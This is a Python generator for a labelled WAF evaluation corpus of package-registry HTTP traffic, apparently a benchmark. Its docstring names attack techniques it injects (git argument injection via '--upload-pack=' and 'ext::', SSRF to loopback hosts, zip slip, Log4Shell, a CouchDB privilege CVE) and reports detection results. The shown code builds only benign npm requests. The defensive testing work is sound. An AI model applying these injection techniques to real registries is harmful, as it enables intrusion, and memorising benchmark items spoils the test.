#!/usr/bin/env python3
"""corpus-registry.py -- held-out HTTP corpus: package registries, artifact
repositories and code hosting.

What it is
----------
A deterministic generator (``random.Random`` with a fixed seed, Python stdlib
only) for a labelled HTTP request corpus in the JSONL shape described in
``/work/shared/corpora/README.md``.  It models the traffic that the *servers*
of package ecosystems receive: npm-style registries, PyPI, Maven/Gradle
repositories, NuGet, RubyGems, crates.io, the Go module proxy, Docker/OCI
distribution registries, Helm chart repositories, the Terraform registry,
Conda channels, Composer/Packagist, Artifactory and Nexus REST APIs, Git smart
HTTP, GitHub/GitLab/Gitea APIs and webhooks, and Renovate/Dependabot bots.

The corpus was written without looking at Palisade's rules or code, so that
it measures how the WAF does on traffic nobody tuned it for.  It must not be
edited to make the WAF look better or worse; only genuine generator mistakes
(malformed requests, wrong lengths, wrong labels) may be fixed.

Benign set (registry-benign.jsonl)
----------------------------------
* ``category: benign`` (about 465 records, ``expect: pass``): ordinary client
  traffic -- packument GETs with scoped names (``@scope%2fname``), npm publish
  PUTs with JSON metadata and long base64 tarball attachments, dist-tags,
  search; PyPI simple index / JSON API / legacy multipart uploads with
  Markdown and reST descriptions, classifiers and ``Requires-Dist``; Maven
  POM/JAR/metadata/checksum GET and PUT; NuGet v3 service index, search and
  push; RubyGems API v1; crates.io sparse index and binary publish (length
  prefixed JSON + .crate tarball); Go proxy ``/@v/list``, ``.info``, ``.mod``,
  ``.zip`` with ``!``-case-encoding; OCI manifests, blob upload sessions
  (POST/PATCH/PUT ``?digest=sha256:...``), tag lists and token flows; Helm
  ``index.yaml`` and chart uploads; Terraform module/provider protocol;
  Conda repodata; Composer ``packages.json`` / ``p2`` metadata; Artifactory
  AQL queries (a real query language sent as text) and Nexus REST; Git
  ``info/refs`` / ``git-upload-pack`` / ``git-receive-pack`` with pkt-line
  bodies and real PACK data; push/PR webhooks whose commit messages mention
  SQL, paths, "fix XSS in ...", "drop table support"; Renovate/Dependabot
  lookups and PRs.  Names with dots, dashes, underscores and scopes, Unicode
  descriptions, version ranges (``^1.2.3 || >=2.0.0 <3``, ``~> 1.4``,
  ``[1.0,2.0)``), license expressions, lifecycle scripts such as
  ``"postinstall": "node scripts/build.js"``, relative imports with ``../``.
* ``category: dev-content`` (exactly 50 records, ``expect: pass``):
  developers publishing packages whose READMEs/descriptions are full of code
  (SQL, shell, PHP, Java, JavaScript, templates, Dockerfiles, Helm/Jinja
  templates, security-tool documentation), and issue/PR comments with code
  snippets posted through the hosting APIs.  These are the hardest benign
  requests for a signature WAF and are reported separately.

Attack set (registry-attacks.jsonl)
-----------------------------------
About 300 records, ``expect: detect``, in the categories sqli, xss, lfi, rfi,
rce, php, java, ssrf, xxe, ssti, nosqli, ldap, crlf, protocol, scanner and
generic.  Every attack arrives through an injection point that exists in
this domain: traversal in package names, tarball/attachment names, Go module
zips (zip slip), OCI blob/manifest paths and Maven coordinates; ``file:``
dependency specs and Artifactory/Nexus path parameters; SSRF through remote
repository/mirror URLs, webhook URLs, Helm repo URLs, Go VCS lookups, cloud
metadata and gopher:/file: schemes; command injection through git ref names,
lifecycle scripts sent to build services, Groovy script endpoints and
``--upload-pack=`` / ``ext::`` argument injection; SQLi in search endpoints;
stored XSS in descriptions/READMEs/annotations; XXE in POM, metadata, nuspec
and SVG uploads; Java deserialization, Log4Shell and EL injection against
Java registries; SSTI in README renderers; NoSQL operators against
CouchDB/Mongo-backed registries; LDAP injection in registry logins; CRLF in
values reflected into headers; scanners; request smuggling and unusual
methods.  Payloads use URL/double-URL encoding, JSON ``\\u`` escapes, base64,
mixed case and comment tricks as real attackers do.  Content-Length is
always the true UTF-8 byte length of the body; binary bodies (tarballs,
layers, jars, packs, zips, crates) are sent as ``raw_b64`` whole requests.

How to run
----------
From /work/main::

    python3 scripts/corpus-registry.py

writes ``rulesets/tests/data/registry-attacks.jsonl`` and
``rulesets/tests/data/registry-benign.jsonl`` and prints the counts.  The
output is byte-for-byte reproducible.  Evaluate with e.g.::

    /work/bin/pr-t0 eval --corpus rulesets/tests/data/registry-attacks.jsonl

First sight
-----------
2026-12-06, ``/work/bin/pr-t0 eval`` with its built-in rules at paranoia 1 (the
default). These are the first numbers, taken before anyone tuned on this corpus.
Nothing was added, removed or relabelled after the run.

Attacks blocked: 301/309 (97.4%)

    sqli 30/30   xss 31/31   lfi 31/32   rfi 12/12   rce 28/28   php 16/16
    java 24/24   ssrf 21/24  xxe 15/15   ssti 17/17  nosqli 13/14
    ldap 9/10    crlf 12/12  protocol 14/15   scanner 18/19   generic 10/10

Benign blocked: ordinary 47/465 (10.1%), dev-content 37/50 (74.0%),
all pass records 84/515 (16.3%).

Missed attacks (8; no rule matched any of them, score 0):
  * ldap/maven-basic-001 -- the LDAP filter is in the username of a base64
    ``Authorization: Basic`` header, and the rules do not decode it.
  * lfi/go-zip-slip-001 -- zip slip: ``../../..`` entry names inside a
    deflated Go module .zip sent as a raw PUT body.
  * nosqli/couch-roles-dup-001 -- CouchDB CVE-2017-12635: a duplicate
    ``"roles"`` key in the ``_users`` document, with no operator in it.
  * protocol/method-override-001 -- GET with ``X-HTTP-Method-Override: DELETE``.
  * scanner/tool-017 -- skipfish User-Agent ``Mozilla/5.0 SF/2.10b``.
  * ssrf/gitea-push-mirror-001 -- push-mirror ``remote_address`` set to
    ``http://localhost:3000/...`` (the host is a name, not a loopback IP).
  * ssrf/go-module-path-002/003 -- Go proxy module paths that name an internal
    host (``/127.0.0.1:8500/v1/kv/@v/list``, ``/localhost:6443/...``).
A few attacks were blocked by a rule from another class than the attack's own.
The null-byte attacks (generic/null-byte-*) were blocked only by protocol-340.
Jenkins and Gradle Groovy ``.execute()`` were blocked by java-124.
Two SSRF requests to private or loopback IPs (ssrf/gitea-webhook-001,
ssrf/harbor-registry-ping-001) were blocked only by rfi-100.
The ``/.env`` probe (scanner/tool-016) was blocked by lfi-300.

Flagged ordinary benign (47), by kind (rule ids):
  * npm publish, all 12: generic-102 (``console.log(`` in the README usage
    block) and lfi-103 (``import ... from '../config/defaults.js'``). Five of
    them also hit rce-110, on lifecycle/test scripts such as
    ``node ./scripts/postinstall.cjs`` or ``node --test test/*.test.js``.
  * PyPI legacy uploads with a Markdown description, 12 of 15: php-111 on
    ``print(item.name, ...)`` in a Python code block. The reST ones passed.
  * Artifactory AQL queries, 6 of 10: nosqli-120 on AQL's own operators
    (``{"$eq":``, ``$and``, ``$or``, ``$gt``).
  * Binary PUTs of Maven JARs (5/5) and Conda .tar.bz2 files (2/2):
    protocol-110 on the Content-Type (``application/java-archive``,
    ``application/x-bzip2``), plus protocol-340 (NUL bytes) and protocol-330
    (invalid UTF-8) in the body.
  * OCI blob-upload PATCH, 5/5: protocol-214 on the Docker distribution
    protocol's ``Content-Range: 0-492`` (no ``bytes`` unit).
  * git-receive-pack, 4/4: protocol-340 on the NUL in the pkt-line
    capability list and in the PACK data, and protocol-330.
  * GitHub push webhook, 1 of 8 (gh-webhook-push-007): lfi-103 on the
    changed path ``docs/../README.md`` and sqli-002 on the commit message
    "fix(auth): handle tokens with '=' padding in Authorization header".
    Note: git never reports a path containing ``..``, so that pool entry is
    unrealistic. It was left in on purpose, as first-sight data.
Flagged dev-content (37/50). These are the code-heavy records, and the
rules behind them were mostly:
  * rce-100..146 on shell in READMEs, gists, CI snippets, install.sh,
    Dockerfile and docker-compose (``curl ... | sh``, ``set -e``, ``$(...)``,
    ``& mkdir``).
  * sqli-002/010/011/012/022/040/041/100/303 on SQL in READMEs, gists,
    schema dumps, EXPLAIN output, the Flyway migration and the security
    release notes.
  * xss-002/010/020/030/040/042/070 on the sanitizer README examples, the
    JSX ``onClick``, the Django ``<script src>`` tag and the javadoc HTML.
  * lfi-100/103/200/220/230/250/321/322 on ``../`` examples, ``/etc/...``
    paths, and the basenames ``.sql``, ``Dockerfile`` and
    ``docker-compose.yml``.
  * Smaller sets: php-100/110/111, java-110/111, nosqli-120/140, ldapi-101,
    ssrf-104, rfi-100, generic-101/132/173 and protocol-110 (for
    ``application/x-sh`` and ``application/sql``).
13 dev-content records passed:
  * the EJS, Handlebars, Helm, Jinja and Flask template READMEs and notes;
  * the helmet/CSP README and the create-app scaffold README;
  * the Terraform comment and the XXE-hardening comment (score 4, below the
    block threshold);
  * the base64 GitHub contents PUTs (PHP controller and Actions workflow);
  * the Jenkinsfile upload and the crates.io publish with the Rust README.
"""

import base64
import gzip
import hashlib
import io
import json
import os
import random
import struct
import sys
import tarfile
import urllib.parse
import zipfile
import zlib

SEED = 20261206
R = random.Random(SEED)

HERE = os.path.dirname(os.path.abspath(__file__))
OUT_DIR = os.path.normpath(os.path.join(HERE, "..", "rulesets", "tests", "data"))

ATTACKS = []
BENIGN = []
_COUNTERS = {}
_IDS = set()


# ---------------------------------------------------------------------------
# record helpers
# ---------------------------------------------------------------------------

def _next_id(category, slug):
    key = (category, slug)
    _COUNTERS[key] = _COUNTERS.get(key, 0) + 1
    rid = "registry/%s/%s-%03d" % (category, slug, _COUNTERS[key])
    assert rid not in _IDS, rid
    _IDS.add(rid)
    return rid


def _target(category):
    return BENIGN if category in ("benign", "dev-content") else ATTACKS


def _expect(category):
    return "pass" if category in ("benign", "dev-content") else "detect"


def req(category, slug, method, uri, headers, body=None, ctype=None):
    """Add a text request.  Content-Type (if ctype) and Content-Length are
    appended when there is a body; Content-Length is the UTF-8 byte length."""
    hs = [[str(k), str(v)] for k, v in headers]
    names = {k.lower() for k, _ in hs}
    if body is not None:
        if isinstance(body, (dict, list)):
            body = json.dumps(body, ensure_ascii=False)
        if ctype and "content-type" not in names:
            hs.append(["Content-Type", ctype])
        if "content-length" not in names:
            hs.append(["Content-Length", str(len(body.encode("utf-8")))])
    rec = {
        "id": _next_id(category, slug),
        "set": "registry",
        "category": category,
        "expect": _expect(category),
        "method": method,
        "uri": uri,
        "version": "HTTP/1.1",
        "headers": hs,
    }
    if body is not None:
        rec["body"] = body
    _target(category).append(rec)
    return rec


def raw(category, slug, method, uri, headers, body=b"", ctype=None):
    """Add a request with a binary body as a complete raw request
    (``raw_b64``).  Content-Length is the byte length of ``body``."""
    if isinstance(body, str):
        body = body.encode("utf-8")
    hs = [[str(k), str(v)] for k, v in headers]
    names = {k.lower() for k, _ in hs}
    if ctype and "content-type" not in names:
        hs.append(["Content-Type", ctype])
    if "content-length" not in names and (body or method in ("PUT", "POST", "PATCH")):
        hs.append(["Content-Length", str(len(body))])
    head = "%s %s HTTP/1.1\r\n" % (method, uri)
    head += "".join("%s: %s\r\n" % (k, v) for k, v in hs) + "\r\n"
    data = head.encode("utf-8") + body
    rec = {
        "id": _next_id(category, slug),
        "set": "registry",
        "category": category,
        "expect": _expect(category),
        "raw_b64": base64.b64encode(data).decode("ascii"),
    }
    _target(category).append(rec)
    return rec


def pick(seq):
    return seq[R.randrange(len(seq))]


def rhex(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def ralnum(n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(R.choice(alphabet) for _ in range(n))


def rbytes(n):
    return bytes(R.randrange(256) for _ in range(n))


def sha256_of(b):
    return hashlib.sha256(b).hexdigest()


def sha512_b64(b):
    return "sha512-" + base64.b64encode(hashlib.sha512(b).digest()).decode()


def uuid4():
    h = rhex(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], pick("89ab"), h[17:20], h[20:32])


def q(s, safe=""):
    return urllib.parse.quote(s, safe=safe)


def qp(s):
    return urllib.parse.quote_plus(s)


def form(pairs):
    return "&".join("%s=%s" % (qp(k), qp(v)) for k, v in pairs)


def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode("ascii")


def multipart(fields, boundary=None):
    """fields: list of (name, value) or (name, filename, ctype, bytes/str).
    Returns (boundary, body_text).  File parts must be text here."""
    boundary = boundary or ("----------------" + rhex(24))
    out = []
    for f in fields:
        if len(f) == 2:
            out.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
                       % (boundary, f[0], f[1]))
        else:
            name, fname, ct, data = f
            if isinstance(data, bytes):
                data = data.decode("utf-8")
            out.append('--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n'
                       'Content-Type: %s\r\n\r\n%s\r\n' % (boundary, name, fname, ct, data))
    out.append("--%s--\r\n" % boundary)
    return boundary, "".join(out)


def multipart_bytes(fields, boundary=None):
    boundary = boundary or ("----------------" + rhex(24))
    out = b""
    for f in fields:
        if len(f) == 2:
            out += ('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
                    % (boundary, f[0], f[1])).encode("utf-8")
        else:
            name, fname, ct, data = f
            if isinstance(data, str):
                data = data.encode("utf-8")
            out += ('--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n'
                    'Content-Type: %s\r\n\r\n' % (boundary, name, fname, ct)).encode("utf-8")
            out += data + b"\r\n"
    out += ("--%s--\r\n" % boundary).encode("utf-8")
    return boundary, out


# ---------------------------------------------------------------------------
# binary artefacts built in memory (deterministic: fixed mtimes, seeded bytes)
# ---------------------------------------------------------------------------

MTIME = 499162500  # 1985-10-26, what npm uses for tarball entries


def make_tgz(files, prefix="package/"):
    """files: dict path -> str/bytes.  Returns gzip-compressed tar bytes."""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for path, data in files.items():
            if isinstance(data, str):
                data = data.encode("utf-8")
            ti = tarfile.TarInfo(prefix + path)
            ti.size = len(data)
            ti.mtime = MTIME
            ti.mode = 0o644
            ti.uname = ti.gname = ""
            tf.addfile(ti, io.BytesIO(data))
    return gzip.compress(bio.getvalue(), compresslevel=9, mtime=0)


def make_zip(files):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in files.items():
            zi = zipfile.ZipInfo(path, date_time=(2024, 9, 17, 12, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            zf.writestr(zi, data)
    return bio.getvalue()


def pkt(line):
    if isinstance(line, str):
        line = line.encode("utf-8")
    return ("%04x" % (len(line) + 4)).encode() + line


def git_pack(blobs):
    """A real (tiny) git PACK v2 holding blob objects."""
    out = b"PACK" + struct.pack(">II", 2, len(blobs))
    for data in blobs:
        if isinstance(data, str):
            data = data.encode("utf-8")
        size = len(data)
        c = (3 << 4) | (size & 0x0F)  # type 3 = blob
        size >>= 4
        hdr = b""
        while size:
            hdr += bytes([c | 0x80])
            c = size & 0x7F
            size >>= 7
        hdr += bytes([c])
        out += hdr + zlib.compress(data)
    return out + hashlib.sha1(out).digest()


def git_sha(data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()


# ---------------------------------------------------------------------------
# shared pools
# ---------------------------------------------------------------------------

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.80",
]

NPM_UAS = [
    "npm/10.8.2 node/v20.17.0 linux x64 workspaces/false",
    "npm/10.9.0 node/v22.11.0 darwin arm64 workspaces/false",
    "npm/9.8.1 node/v18.20.4 win32 x64 workspaces/true",
    "pnpm/9.12.1 npm/? node/v22.9.0 darwin arm64",
    "yarn/1.22.22 npm/? node/v20.11.1 linux x64",
    "Bun/1.1.30",
]

PIP_UAS = [
    'pip/24.2 {"ci":null,"cpu":"x86_64","distro":{"id":"jammy","libc":{"lib":"glibc","version":"2.35"},"name":"Ubuntu","version":"22.04"},"implementation":{"name":"CPython","version":"3.11.9"},"installer":{"name":"pip","version":"24.2"},"openssl_version":"OpenSSL 3.0.2 15 Mar 2022","python":"3.11.9","setuptools_version":"69.5.1","system":{"name":"Linux","release":"5.15.0-119-generic"}}',
    'pip/24.3.1 {"ci":true,"cpu":"arm64","implementation":{"name":"CPython","version":"3.12.7"},"installer":{"name":"pip","version":"24.3.1"},"openssl_version":"OpenSSL 3.3.2 3 Sep 2024","python":"3.12.7","system":{"name":"Darwin","release":"23.6.0"}}',
    "uv/0.4.25",
    "poetry/1.8.4 (python 3.11.10)",
]
TWINE_UAS = ["twine/5.1.1 CPython/3.12.4", "twine/6.0.1 CPython/3.13.0", "maturin/1.7.4"]
MAVEN_UAS = [
    "Apache-Maven/3.9.9 (Java 17.0.12; Linux 6.8.0-45-generic)",
    "Apache-Maven/3.8.8 (Java 11.0.24; Mac OS X 14.6.1)",
    "Gradle/8.10.2 (Linux;6.8.0-45-generic;amd64) (Eclipse Adoptium;21.0.4;21.0.4+7-LTS)",
    "Gradle/7.6.4 (Windows 11;10.0;amd64) (Oracle Corporation;17.0.11;17.0.11+7-LTS-207)",
    "sbt/1.10.2",
]
DOCKER_UAS = [
    "docker/27.3.1 go/go1.22.7 git-commit/41ca978 kernel/6.8.0-45-generic os/linux arch/amd64 UpstreamClient(Docker-Client/27.3.1 \\(linux\\))",
    "containerd/v1.7.22",
    "buildkit/v0.16.0",
    "skopeo/1.16.1",
    "crane/0.20.2",
    "Go-http-client/1.1",
]
GIT_UAS = ["git/2.46.1", "git/2.43.0", "git/2.39.5 (Apple Git-154)", "JGit/6.10.0.202406032230-r"]
CARGO_UAS = ["cargo 1.81.0 (2dbb1af80 2024-08-20)", "cargo 1.82.0 (8f40fc59f 2024-08-21)"]
GO_UAS = ["Go-http-client/1.1", "Go-http-client/2.0"]
HELM_UAS = ["Helm/3.16.1", "Helm/3.15.4", "helm-push/0.10.4"]
TF_UAS = ["Terraform/1.9.7", "Terraform/1.5.7", "OpenTofu/1.8.3"]
NUGET_UAS = [
    "NuGet Command Line/6.11.0 (Microsoft Windows NT 10.0.22631.0)",
    "NuGet .NET Core MSBuild Task/6.11.0.119 (Linux 6.8.0-45-generic #45-Ubuntu SMP)",
    "NuGet VS VSIX/6.11.1 (Microsoft Windows NT 10.0.22631.0, VS Enterprise/17.11)",
]
GEM_UAS = [
    "Ruby, RubyGems/3.5.20 x86_64-linux Ruby/3.3.5 (2024-09-03 patchlevel 100)",
    "bundler/2.5.21 rubygems/3.5.21 ruby/3.3.5 (x86_64-pc-linux-gnu) command/install 9a8b2c1d",
]
COMPOSER_UAS = [
    "Composer/2.8.1 (Linux; 6.8.0-45-generic; PHP 8.3.12; cURL 8.5.0; Platform-PHP 8.3.12; CI)",
    "Composer/2.7.9 (Darwin; 23.6.0; PHP 8.2.24; cURL 8.7.1)",
]
CONDA_UAS = [
    "conda/24.7.1 requests/2.32.3 CPython/3.12.4 Linux/6.8.0 ubuntu/22.04 glibc/2.35 solver/libmamba conda-libmamba-solver/24.7.0 libmambapy/1.5.9",
    "micromamba/1.5.10",
]
RENOVATE_UA = "RenovateBot/38.110.2 (https://github.com/renovatebot/renovate)"
DEPENDABOT_UA = "dependabot-core/0.277.0 excon/0.111.0 ruby/3.3.5 (x86_64-linux) (+https://github.com/dependabot/dependabot-core)"

UNICODE_DESC = [
    "Schnelle JSON-Verarbeitung für Node.js – ohne Abhängigkeiten",
    "高速で軽量な日付ライブラリ",
    "Библиотека для работы с HTTP-заголовками",
    "Une bibliothèque légère pour générer des UUID",
    "一个轻量级的状态管理库",
    "مكتبة لتحليل ملفات YAML",
    "Emoji-friendly structured logger 🚀✨",
    "Ferramenta de linha de comando para migrações de banco de dados",
    "Παραγωγή PDF από πρότυπα Markdown",
    "한국어 형태소 분석기 바인딩",
]

LICENSES = ["MIT", "Apache-2.0", "ISC", "BSD-3-Clause", "(MIT OR Apache-2.0)",
            "MPL-2.0", "GPL-3.0-or-later", "Apache-2.0 WITH LLVM-exception",
            "LGPL-2.1-only OR MIT", "0BSD"]

PEOPLE = [("Ana Souza", "ana@souza.dev"), ("Jonas Müller", "jonas.mueller@example.de"),
          ("Priya Raman", "priya@raman.io"), ("Kenji Watanabe", "kenji@example.jp"),
          ("Olu Adeyemi", "olu@adeyemi.ng"), ("Zoë Laurent", "zoe@laurent.fr"),
          ("Mateusz Nowak", "m.nowak@example.pl"), ("Sara Lindqvist", "sara@lindqvist.se")]


# ---------------------------------------------------------------------------
# generators are added below, section by section
# ---------------------------------------------------------------------------

# ===========================================================================
# BENIGN: npm
# ===========================================================================

NPM_HOSTS = ["registry.npmjs.org", "npm.acme-internal.dev", "registry.yarnpkg.com",
             "npm.pkg.github.com", "verdaccio.build.example.net"]

NPM_PKGS = [
    ("lodash.merge", "4.6.2"), ("@babel/core", "7.25.8"), ("@types/node", "22.7.5"),
    ("react-dom", "18.3.1"), ("@acme/ui-kit", "3.14.0"), ("date-fns", "4.1.0"),
    ("@nestjs/common", "10.4.4"), ("socket.io-client", "4.8.0"), ("node-fetch", "3.3.2"),
    ("@aws-sdk/client-s3", "3.670.0"), ("chalk", "5.3.0"), ("tslib", "2.7.0"),
    ("@vue/compiler-sfc", "3.5.12"), ("@esbuild/linux-x64", "0.24.0"),
    ("@scope-with-dash/pkg_name.v2", "0.0.1-alpha.7"), ("eslint-plugin-react-hooks", "5.0.0"),
    ("@internal/payments-sdk", "12.0.3"), ("uuid", "10.0.0"), ("string_decoder", "1.3.0"),
    ("@fortawesome/free-solid-svg-icons", "6.6.0"), ("@img/sharp-linux-x64", "0.33.5"),
    ("@biomejs/biome", "1.9.3"), ("is-number", "7.0.0"), ("core-js", "3.38.1"),
    ("@angular/router", "18.2.8"), ("graphql", "16.9.0"), ("@sql-kit/query-builder", "2.1.0"),
    ("select-dom", "9.1.0"), ("union-find", "1.0.2"), ("drop-table-migrations", "0.3.1"),
]

NPM_ACCEPT = "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*"
NPM_ACCEPT_FULL = "application/json"


def npm_enc(name):
    return name.replace("/", "%2f") if name.startswith("@") else name


def npm_headers(host, cmd="install", auth=False, accept=NPM_ACCEPT, extra=()):
    hs = [["Host", host], ["User-Agent", pick(NPM_UAS)], ["Accept", accept],
          ["Accept-Encoding", "gzip, deflate"], ["npm-command", cmd],
          ["npm-auth-type", pick(["web", "legacy"])], ["npm-session", rhex(16)]]
    if auth:
        hs.append(["Authorization", "Bearer npm_" + ralnum(36)])
    hs.extend([list(e) for e in extra])
    hs.append(["Connection", "keep-alive"])
    return hs


BADGES = [
    '<p align="center"><img src="https://img.shields.io/npm/v/{n}.svg" alt="npm version"> '
    '<img src="https://img.shields.io/github/actions/workflow/status/acme/{b}/ci.yml?branch=main" alt="CI"> '
    '<a href="https://codecov.io/gh/acme/{b}"><img src="https://codecov.io/gh/acme/{b}/branch/main/graph/badge.svg" alt="coverage"></a></p>',
    "[![npm](https://img.shields.io/npm/dm/{n}.svg)](https://www.npmjs.com/package/{n}) "
    "[![License: MIT](https://img.shields.io/badge/License-MIT-yellow.svg)](https://opensource.org/licenses/MIT)",
    '<img src="docs/logo.png" width="120" height="120" alt="{b} logo" align="right">',
]


def md_readme(name, desc, kind="js"):
    base = name.split("/")[-1]
    parts = ["# %s\n" % base, pick(BADGES).format(n=name, b=base) + "\n", "> %s\n" % desc]
    parts.append("## Install\n\n```sh\nnpm install %s\n# or\nyarn add %s\npnpm add -D %s\n```\n"
                 % (name, name, name) if kind == "js" else
                 "## Install\n\n```console\n$ python -m pip install %s\n```\n" % name)
    if kind == "js":
        ident = "".join(w.capitalize() for w in base.replace(".", "-").replace("_", "-").split("-"))
        parts.append("## Usage\n\n```js\nimport { create%s } from '%s';\nimport config from '../config/defaults.js';\n\n"
                     "const client = create%s({ retries: 3, timeout: 5_000 });\n"
                     "const result = await client.run({ input: 'hello' });\nconsole.log(result);\n```\n"
                     % (ident, name, ident))
    else:
        mod = name.replace("-", "_").lower()
        parts.append("## Usage\n\n```python\nfrom %s import Client\n\nclient = Client(timeout=5)\n"
                     "for item in client.list(limit=10):\n    print(item.name, item.version)\n```\n" % mod)
    parts.append(pick([
        "## Options\n\n| Option | Type | Default | Description |\n|--------|------|---------|-------------|\n"
        "| `retries` | `number` | `3` | How often to retry a failed request |\n"
        "| `timeout` | `number` | `5000` | Milliseconds before giving up |\n"
        "| `baseUrl` | `string` | `https://api.example.com` | Where requests go |\n",
        "## Compatibility\n\n| Runtime | Supported |\n|:--|:--:|\n| Node 18 | ✅ |\n| Node 20 | ✅ |\n| Deno | ⚠️ partial |\n| Bun | ✅ |\n",
        "## Changelog\n\nSee [CHANGELOG.md](./CHANGELOG.md). Breaking changes in 2.0:\n\n"
        "- dropped support for Node < 18\n- `select()` now returns a `Promise`\n- removed the deprecated `union` option\n",
    ]))
    parts.append("## License\n\n%s © %s\n" % (pick(LICENSES), pick(PEOPLE)[0]))
    return "\n".join(parts)


def npm_tarball(name, version, desc, scripts=None, deps=None):
    pj = {"name": name, "version": version, "description": desc, "main": "dist/index.js",
          "types": "dist/index.d.ts", "license": pick(LICENSES[:5]),
          "scripts": scripts or {"build": "tsc -p .", "test": "vitest run"},
          "dependencies": deps or {}}
    files = {
        "package.json": json.dumps(pj, indent=2),
        "dist/index.js": "'use strict';\nObject.defineProperty(exports, '__esModule', { value: true });\n"
                         "const util_1 = require('../lib/util');\nexports.run = function run(x) { return util_1.wrap(x); };\n"
                         + "// " + "padding ".join(rhex(8) for _ in range(40)) + "\n",
        "README.md": md_readme(name, desc),
        "LICENSE": "MIT License\n\nCopyright (c) 2024\n\nPermission is hereby granted, free of charge, ...\n",
    }
    return pj, make_tgz(files)


DEP_RANGES = ["^1.2.3", "~4.17.21", ">=2.0.0 <3", "^1.2.3 || >=2.0.0 <3", "1.x", "*",
              "npm:string-width@^4.2.0", "workspace:^", "github:acme/left-pad#v1.3.0",
              "^0.0.7", ">= 1.0.0-rc.1", "latest", "https://codeload.github.com/acme/tool/tar.gz/refs/tags/v2.1.0"]


def benign_npm():
    # packument GETs (abbreviated and full)
    for i in range(18):
        name, ver = NPM_PKGS[i % len(NPM_PKGS)] if i < 12 else pick(NPM_PKGS)
        host = pick(NPM_HOSTS)
        acc = NPM_ACCEPT if i % 3 else NPM_ACCEPT_FULL
        extra = [["pacote-version", "18.0.6"], ["pacote-req-type", "packument"],
                 ["pacote-pkg-id", "registry:" + name]]
        if i % 4 == 0:
            extra.append(["If-None-Match", 'W/"%s"' % rhex(32)])
        req("benign", "npm-packument", "GET", "/" + npm_enc(name),
            npm_headers(host, auth=host != "registry.npmjs.org", accept=acc, extra=extra))
    # tarball downloads
    for i in range(8):
        name, ver = pick(NPM_PKGS)
        base = name.split("/")[-1]
        req("benign", "npm-tarball", "GET", "/%s/-/%s-%s.tgz" % (name, base, ver),
            npm_headers(pick(NPM_HOSTS), extra=[["pacote-req-type", "tarball"],
                                                ["pacote-integrity", sha512_b64(rbytes(20))]]))
    # publishes with base64 tarballs
    for i in range(12):
        name, ver = pick(NPM_PKGS)
        desc = pick(UNICODE_DESC) if i % 3 == 0 else pick([
            "Tiny query builder for SQLite and Postgres", "Select elements from the DOM with types",
            "Union-find data structure with path compression", "Migrations that can drop tables safely",
            "React hooks for form state", "Fast glob matching for monorepos", "Zero-config CLI for semantic releases"])
        scripts = pick([
            {"build": "tsc -p tsconfig.build.json", "test": "jest --coverage", "postinstall": "node scripts/build.js"},
            {"prepare": "husky install", "lint": "eslint . --ext .ts,.tsx", "test": "vitest run"},
            {"prepublishOnly": "npm run build && npm test", "build": "rollup -c", "clean": "rimraf dist"},
            {"install": "node-gyp rebuild", "test": "node --test test/*.test.js"},
            {"postinstall": "node ./scripts/postinstall.cjs || true", "build": "node build.mjs"},
        ])
        deps = {pick(NPM_PKGS)[0]: pick(DEP_RANGES) for _ in range(R.randint(1, 5))}
        pj, tgz = npm_tarball(name, ver, desc, scripts, deps)
        base = name.split("/")[-1]
        fname = "%s-%s.tgz" % (name, ver)
        host = pick(NPM_HOSTS)
        vdoc = dict(pj)
        vdoc.update({
            "_id": "%s@%s" % (name, ver), "readme": md_readme(name, desc), "readmeFilename": "README.md",
            "keywords": R.sample(["sql", "select", "dom", "union", "cli", "hooks", "react", "json",
                                  "parser", "drop-in", "exec", "template"], 4),
            "repository": {"type": "git", "url": "git+https://github.com/acme/%s.git" % base},
            "engines": {"node": pick([">=18", "^18.18.0 || ^20.9.0 || >=21.1.0", ">= 14.17"])},
            "gitHead": rhex(40), "_nodeVersion": "20.17.0", "_npmVersion": "10.8.2",
            "dist": {"integrity": sha512_b64(tgz), "shasum": hashlib.sha1(tgz).hexdigest(),
                     "tarball": "https://%s/%s/-/%s-%s.tgz" % (host, name, base, ver)},
        })
        body = {"_id": name, "name": name, "description": desc,
                "dist-tags": {"latest": ver}, "versions": {ver: vdoc}, "access": pick(["public", "restricted", None]),
                "_attachments": {fname: {"content_type": "application/octet-stream",
                                         "data": b64(tgz), "length": len(tgz)}}}
        req("benign", "npm-publish", "PUT", "/" + npm_enc(name),
            npm_headers(host, cmd="publish", auth=True, accept="*/*",
                        extra=[["npm-otp", "%06d" % R.randrange(10 ** 6)]] if i % 4 == 0 else []),
            json.dumps(body), "application/json")
    # dist-tags
    for i in range(6):
        name, ver = pick(NPM_PKGS)
        host = pick(NPM_HOSTS)
        if i % 3 == 0:
            req("benign", "npm-dist-tags", "GET", "/-/package/%s/dist-tags" % npm_enc(name),
                npm_headers(host, cmd="dist-tag", auth=True))
        elif i % 3 == 1:
